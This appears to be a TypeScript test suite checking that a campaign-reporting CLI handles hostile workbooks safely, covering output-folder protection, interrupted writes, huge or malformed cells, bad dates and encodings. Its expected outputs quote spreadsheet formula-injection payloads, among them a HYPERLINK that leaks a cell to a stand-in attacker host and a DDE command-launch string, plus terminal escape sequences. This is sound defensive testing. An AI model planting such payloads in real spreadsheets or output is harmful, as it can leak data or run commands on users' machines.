/**
 * @fileoverview The command line under hostile input (issue 10): it never loses a file, never
 * writes data where a spreadsheet would run it, never prints escape sequences from data, and never
 * counts wrong silently. Each case runs the real CLI on a workbook from test/fixtures/bad-input
 * (laid over the tiny example) and checks the exit status, the message and the rows kept.
 */
import { describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, readdir, stat, writeFile, cp, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { cli, spawnCli, tinyWith } from '../helpers/cli';
import { parseCsvText } from '../../src/files/read-csv';
import { tinyExpected } from '../helpers/workbooks';

/** The escape and bell characters the formula-names fixture's campaign C6 holds. */
// eslint-disable-next-line no-control-regex -- the point is to find them
const CONTROL = /[\u001b\u0007]/;
const tmp = (prefix: string) => mkdtemp(join(tmpdir(), `cs-${prefix}-`));
const csvRows = async (file: string) => parseCsvText(await readFile(file, 'utf8')) as string[][];
const hashes = async (dir: string) => {
  const out: Record<string, string> = {};
  for (const f of (await readdir(dir)).sort()) out[f] = createHash('sha256').update(await readFile(join(dir, f))).digest('hex');
  return out;
};

describe('never lose a file', () => {
  it('refuses the workbook folder as the output folder, and leaves its files alone', async () => {
    const dir = await tinyWith();
    // A source tab saved as assets.csv matches the report's name ignoring case.
    await cp(join(dir, 'Assets.csv'), join(dir, 'assets.csv'));
    const before = await hashes(dir);
    const r = await cli(['report', '--workbook', dir, '--out', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`Refusing to write outputs to ${dir}: it is the workbook's folder`);
    expect(await hashes(dir)).toEqual(before);
  }, 60_000);

  it('refuses a folder inside the workbook folder, and one that contains the .xlsx', async () => {
    const dir = await tinyWith();
    const inside = await cli(['report', '--workbook', dir, '--out', join(dir, 'reports')]);
    expect(inside.code).toBe(2);
    expect(inside.stderr).toContain("it is inside the workbook's folder");
    await expect(stat(join(dir, 'reports'))).rejects.toThrow();

    const xdir = await tmp('xlsx-in');
    const book = join(xdir, 'campaign-sheets.xlsx');
    await writeTinyXlsx(book);
    const before = await hashes(xdir);
    const same = await cli(['report', '--workbook', book, '--out', xdir]);
    expect(same.code).toBe(2);
    expect(same.stderr).toContain(`it contains the workbook ${book}`);
    // Through another spelling of the same folder (a trailing `/.`): still refused.
    const dotted = await cli(['report', '--workbook', book, '--out', join(xdir, '.')]);
    expect(dotted.code).toBe(2);
    expect(await hashes(xdir)).toEqual(before);
  }, 60_000);

  it('Ctrl+C while writing leaves every output whole: the previous run\'s files, no temporary files', async () => {
    const dir = await tinyWith();
    const out = await tmp('interrupted');
    expect((await cli(['report', '--workbook', dir, '--out', out, '--campaign', 'Spring launch'])).code).toBe(0);
    const before = await hashes(out);
    const child = spawnCli(['report', '--workbook', dir, '--out', out, '--campaign', 'Webinar']);
    let stderr = '';
    const code = await new Promise<number | null>((resolve) => {
      child.stderr.on('data', (d: Buffer) => {
        stderr += d.toString();
        if (stderr.includes('Writing') && !child.killed) child.kill('SIGINT');
      });
      child.on('exit', (c) => resolve(c));
    });
    expect(code).toBe(130);
    expect(stderr).toContain('Stopped (SIGINT)');
    expect((await readdir(out)).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    if (stderr.includes('were finished first')) {
      // The signal came during the renames (a loaded machine can make that the common case): all new.
      expect(Object.keys(await hashes(out))).toEqual(Object.keys(before));
      expect(await readFile(join(out, 'overview--parameters.csv'), 'utf8')).toContain('"Overview: Webinar"');
    } else {
      expect(await hashes(out)).toEqual(before);
    }
    // And the files are usable: the xlsx opens.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(out, 'campaign-sheets.xlsx'));
    expect(wb.worksheets.length).toBeGreaterThan(5);
  }, 90_000);

  it('gives dashboards that read alike, or have long or non-Latin names, their own short files', async () => {
    const { writeReportOutputs } = await import('../../src/files/write-outputs');
    const { dashboardTab } = await import('../../src/engine/reports/dashboard');
    const { analyse } = await import('../../src/engine/analysis');
    const { tinyWorkbook } = await import('../helpers/workbooks');
    const a = analyse(tinyWorkbook(), {}, Date.UTC(2026, 10, 1));
    const names = ['売上', '費用', 'Q1 Sales', 'q1-sales', 'x'.repeat(300), 'X'.repeat(300)];
    const tabs = names.map((n) => dashboardTab(a, n, [{ name: 'Overview', report: 'overview', query: {} }]));
    const out = await tmp('dashboards');
    const written = await writeReportOutputs({ outDir: out, source: {}, tabs, timeZone: 'UTC', only: { html: false } });
    const files = written.csvFiles.map((f) => f.slice(out.length + 1));
    expect(new Set(files.map((f) => f.toLowerCase())).size).toBe(files.length);
    expect(Math.max(...files.map((f) => f.length))).toBeLessThan(100);
    expect((await readdir(out)).filter((f) => f.endsWith('.csv')).length).toBe(files.length);
    // Writing again (a later refresh) works and names the same files.
    const again = await writeReportOutputs({ outDir: out, source: {}, tabs, timeZone: 'UTC', only: { html: false } });
    expect(again.csvFiles).toEqual(written.csvFiles);
  }, 60_000);
});

describe('never run data', () => {
  it('neutralises formula-like names in eval and report CSVs, and escapes control characters on the terminal', async () => {
    const dir = await tinyWith('formula-names');
    const r = await cli(['eval', '--workbook', dir, 'MODEL_COMPARISON("revenue")']);
    expect(r.code, r.stderr).toBe(0);
    const names = r.stdout.split('\n').slice(1, 7).map((l) => l.slice(0, l.indexOf('",') + 1));
    expect(names).toEqual([
      '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
      '"\'+cmd|\' /C calc\'!A0"',
      '"\'@SUM(1+1)"',
      '"x;\'=1+1"',
      '"x\t\'=1+1"',
      '"\\u{1b}[2J\\u{1b}[1;31mowned\\u{7}"',
    ]);
    expect(r.stdout + r.stderr).not.toMatch(CONTROL);

    const out = await tmp('formula-out');
    const rep = await cli(['report', '--workbook', dir, '--out', out, '--campaign', 'C6']);
    expect(rep.code, rep.stderr).toBe(0);
    expect(rep.stdout + rep.stderr).not.toMatch(CONTROL);
    expect(rep.stdout).toContain('\\u{1b}[2J');
    const comparison = await readFile(join(out, 'model-comparison--comparison-revenue.csv'), 'utf8');
    expect(comparison).toContain('"\'=HYPERLINK(');
    expect(comparison).toContain('"x;\'=1+1"');
    // The CSV holds the data itself (an ESC stays an ESC in a file); only the terminal escapes it.
    expect(comparison).toContain('\u001b[2J');
  }, 60_000);
});

describe('bounded memory and time on any workbook', () => {
  it('reads an .xlsx with one cell at XFD1048576 at the cost of its cells, naming that row', async () => {
    const dir = await tmp('xfd');
    const book = join(dir, 'sparse.xlsx');
    await writeTinyXlsx(book, (wb) => {
      wb.getWorksheet('Interactions')!.getCell('XFD1048576').value = 'far away';
    });
    expect((await stat(book)).size).toBeLessThan(30_000);
    const r = await cli(['report', '--workbook', book, '--out', join(dir, 'out')]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('Interactions, row 1048576, column "Timestamp": blank: required');
    expect(r.peakMb).toBeLessThan(600);
    expect(await csvRows(join(dir, 'out', 'data-check--tabs.csv'))).toContainEqual(['Interactions', '8', '7', '1']);
  }, 120_000);

  it('refuses a CSV wider than a spreadsheet, naming it', async () => {
    const dir = await tinyWith();
    await writeFile(join(dir, 'Notes.csv'), Array.from({ length: 16_385 }, (_, i) => `c${i}`).join(',') + '\n');
    const r = await cli(['report', '--workbook', dir, '--out', `${dir}-out`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("Notes.csv has 16,385 columns; a spreadsheet tab holds at most 16,384 (Excel's limit)");
  }, 60_000);

  it('skips dates far from the rest (the year 1026), impossible years and offsets, keeping every other row', async () => {
    const dir = await tinyWith('bad-dates');
    const out = `${dir}-out`;
    const r = await cli(['report', '--workbook', dir, '--out', out]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('Interactions, row 9, column "Timestamp": "0000-01-01": expected a date');
    expect(r.stderr).toContain('(a year from 1000 on); the row is skipped');
    expect(r.stderr).toContain('Interactions, row 10, column "Timestamp": "0026-03-05T09:00:00Z"');
    expect(r.stderr).toContain('Interactions, row 11, column "Timestamp": "2026-03-02T09:00:00+25:00": expected a date');
    expect(r.stderr).toContain('(an offset from -14:00 to +14:00)');
    expect(r.stderr).toContain('Interactions, row 12, column "Timestamp": "2026-03-02T09:00:00+99"');
    expect(r.stderr).toMatch(/Interactions, row 13, column "Timestamp": "1026-03-05T09:00:00Z": expected a date from 2006-\d\d-\d\d to 2046-\d\d-\d\d \(within 20 years of the data's median date/);
    expect(await csvRows(join(out, 'data-check--tabs.csv'))).toContainEqual(['Interactions', '12', '7', '5']);
    // The series spans the real data only: days of 2026, not a thousand years.
    const series = await csvRows(join(out, 'contacts-sessions--series.csv'));
    expect(series.length).toBeLessThan(400);
    expect(series[1][0] >= '2026-01-01').toBe(true);
  }, 60_000);
});

describe('never count wrong silently', () => {
  it('an unclosed quote is an error naming its line, and the rows after it are read', async () => {
    const dir = await tinyWith('unclosed-quote');
    const r = await cli(['report', '--workbook', dir, '--out', `${dir}-out`]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('Contacts, row 4, column "Contact ID": "P3,"2026-03-11T09:00:00Z,,cy@example.com": expected a value, not a line whose quote does not close (line 4 of Contacts.csv');
    // One finding for the line, not one per column.
    expect(r.stderr.match(/row 4/g)).toHaveLength(1);
    expect(await csvRows(join(`${dir}-out`, 'data-check--tabs.csv'))).toContainEqual(['Contacts', '7', '6', '1']);
  }, 60_000);

  it('two files matching one tab are an error naming both', async () => {
    const dir = await tinyWith('duplicate-tab');
    const r = await cli(['report', '--workbook', dir, '--out', `${dir}-out`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Tabs "-Deals" and "Deals" both match the tab "Deals"');
  }, 60_000);

  it('an amount too large to be a number is reported, never $∞', async () => {
    const dir = await tinyWith('huge-amount');
    const r = await cli(['report', '--workbook', dir, '--out', `${dir}-out`]);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('Deals, row 3, column "Amount": "999');
    expect(r.stderr).toContain('expected a number a spreadsheet can hold');
    expect(r.stdout).not.toContain('∞');
    expect(r.stdout).toContain('$5,000.00');
  }, 60_000);

  it('a repeated header is an error naming both columns', async () => {
    const dir = await tinyWith('duplicate-header');
    const r = await cli(['report', '--workbook', dir, '--out', `${dir}-out`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Tab "Deals" has 2 columns headed "Amount": column G ("Amount") and column H ("Amount"), header row 1');
  }, 60_000);

  it('honours the 1904 date system for plain serial numbers', async () => {
    const dir = await tmp('1904');
    const book = join(dir, 'mac.xlsx');
    await writeTinyXlsx(book, undefined, { date1904: true });
    const r = await cli(['eval', '--workbook', book, 'MODEL_COMPARISON("deal create")']);
    expect(r.code, r.stderr).toBe(0);
    const rows = parseCsvText(r.stdout) as string[][];
    const expected = tinyExpected('model-comparison-deal-create.csv');
    expect(rows.map((l) => l[0])).toEqual(expected.map((l) => l[0]));
    for (let i = 1; i < rows.length; i++) for (let j = 1; j < rows[i].length; j++) expect(Number(rows[i][j])).toBeCloseTo(Number(expected[i][j]), 6);
  }, 60_000);

  it('a merged cell and a formula without its saved result are reported as what they are', async () => {
    const dir = await tmp('merged');
    const book = join(dir, 'merged.xlsx');
    await writeTinyXlsx(book, (wb) => {
      const contacts = wb.getWorksheet('Contacts')!;
      contacts.addRow(['P3', '']);
      contacts.addRow(['P4', '']);
      contacts.mergeCells('B3:B4');
      contacts.getCell('B5').value = { formula: 'TODAY()' } as ExcelJS.CellFormulaValue;
    });
    const r = await cli(['report', '--workbook', book, '--out', join(dir, 'out')]);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('Contacts, row 4, column "Created at": "a merged cell (part of B3:B4, whose value is in B3 only)": expected a value, not a merged cell');
    expect(r.stderr).toContain('Contacts, row 5, column "Created at": "=TODAY()": expected a value, not a formula saved without its result');
    expect(await csvRows(join(dir, 'out', 'data-check--tabs.csv'))).toContainEqual(['Contacts', '4', '2', '2']);
  }, 60_000);

  it('reads UTF-16 files (with a BOM or by their zero bytes) and refuses text that is not UTF-8 with the fix', async () => {
    for (const fixture of ['utf-16', 'utf-16-no-bom']) {
      const dir = await tinyWith(fixture);
      const r = await cli(['eval', '--workbook', dir, 'MODEL_COMPARISON("revenue")']);
      expect(r.code, `${fixture}: ${r.stderr}`).toBe(0);
      expect(r.stdout).toContain('"Webinar für Café"');
      expect(r.stdout).not.toContain('\u0000');
    }
    const dir = await tinyWith('windows-1252');
    const r = await cli(['report', '--workbook', dir, '--out', `${dir}-out`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Campaigns.csv is not UTF-8 text: line 3 has the byte 0xE9');
    expect(r.stderr).toContain('Save the file as "CSV UTF-8"');
  }, 60_000);
});

describe('arguments', () => {
  it('are checked before the workbook is read', async () => {
    const missing = join(tmpdir(), 'no-such-workbook');
    for (const [flag, value, message] of [
      ['--model', 'markof', 'Unknown attribution model "markof"'],
      ['--type', 'leads', 'Unknown report type "leads"'],
      ['--frequency', 'hourly', 'hourly'],
      ['--from', '2026-13-01', '2026-13-01'],
      ['--preset', 'forever', 'forever'],
      ['--timezone', 'Mars/Olympus', 'Mars/Olympus'],
    ]) {
      const r = await cli(['report', '--workbook', missing, '--out', join(tmpdir(), 'cs-args-out'), flag, value]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(message);
      expect(r.stderr).not.toContain('Workbook not found');
    }
  }, 60_000);
});

/** The tiny example as an .xlsx: dates as real date cells (or 1904 serial numbers), then `edit`. */
async function writeTinyXlsx(file: string, edit?: (wb: ExcelJS.Workbook) => void, options: { date1904?: boolean } = {}): Promise<void> {
  const { tinyWorkbook } = await import('../helpers/workbooks');
  const raw = tinyWorkbook();
  const wb = new ExcelJS.Workbook();
  if (options.date1904) wb.properties.date1904 = true;
  for (const [name, table] of Object.entries(raw)) {
    const ws = wb.addWorksheet(name);
    for (const row of table) {
      ws.addRow(row.map((c) => {
        const iso = typeof c === 'string' && /^\d{4}-\d\d-\d\d(T[\d:]+Z)?$/.test(c) ? new Date(c.length === 10 ? c + 'T00:00:00Z' : c) : null;
        if (!iso) return c;
        // 1904 system: days since 1904-01-01, as a plain number.
        return options.date1904 ? (iso.getTime() - Date.UTC(1904, 0, 1)) / 86_400_000 : iso;
      }));
    }
  }
  edit?.(wb);
  await mkdir(join(file, '..'), { recursive: true });
  await wb.xlsx.writeFile(file);
}
